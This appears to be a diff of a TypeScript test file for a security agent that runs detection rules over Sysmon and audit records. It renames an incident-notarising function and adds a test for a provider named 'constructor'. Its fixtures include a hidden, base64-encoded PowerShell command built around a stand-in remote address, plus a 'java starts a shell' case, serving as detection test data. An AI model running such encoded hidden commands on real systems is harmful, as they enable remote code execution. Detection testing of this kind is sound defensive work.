@@ -14,7 +14,7 @@ import { runKeyed } from '../runtime';
 import { compileRules } from '../sigma';
 import { shippedRules } from '../site/shipped-rules';
 import { createSecurityAgent } from './agent';
-import { toIncidentItem } from './incident-item';
+import { notarise } from './incident-item';
 import { SecuritySettings } from './settings';
 
 const rules = compileRules(shippedRules().detections.filter((one) => 'detection' in one));
@@ -44,6 +44,12 @@ const script = `$u='${Buffer.from('http://203.0.113.66:443', 'utf16le').toString
 const encoded = `powershell.exe -NonI -W Hidden -Enc ${Buffer.from(script, 'utf16le').toString('base64')}`;
 
 describe('security agent by rules', () => {
+  it('given a record of a provider that is called like what every object has, when rules look at it, then they find nothing', () => {
+    const text = sysmonXml(1, shellOfJava).replace('Name="Linux-Sysmon"', 'Name="constructor"');
+
+    expect(incidents([text])).toEqual([]);
+  });
+
   it.each([
     ['java starts a shell', sysmonXml(1, shellOfJava), 'java-starts-shell', []],
     [
@@ -195,7 +201,7 @@ describe('security agent by rules', () => {
 
   it('given one indicator in other incidents, when they are notarised, then they share a key that tells nothing', () => {
     const items = incidents([vmConnection(), columns(audit({ cmdline: payload }), 'auoms')]).map(
-      ({ data }) => IncidentItem.parse(toIncidentItem(data, keys)),
+      ({ data }) => IncidentItem.parse(notarise(data, keys).item),
     );
 
     const [first, second] = items.map(({ correlationKeys }) => correlationKeys);
@@ -207,7 +213,7 @@ describe('security agent by rules', () => {
   it('given an incident without a rule, when it is notarised, then it is as it always was', () => {
     const incident = events.IncidentOpened.data.parse(events.IncidentOpened.example);
 
-    const { commitment } = toIncidentItem(incident, keys);
+    const { commitment } = notarise(incident, keys).item;
 
     expect(commitment).toMatchInlineSnapshot(`
       {
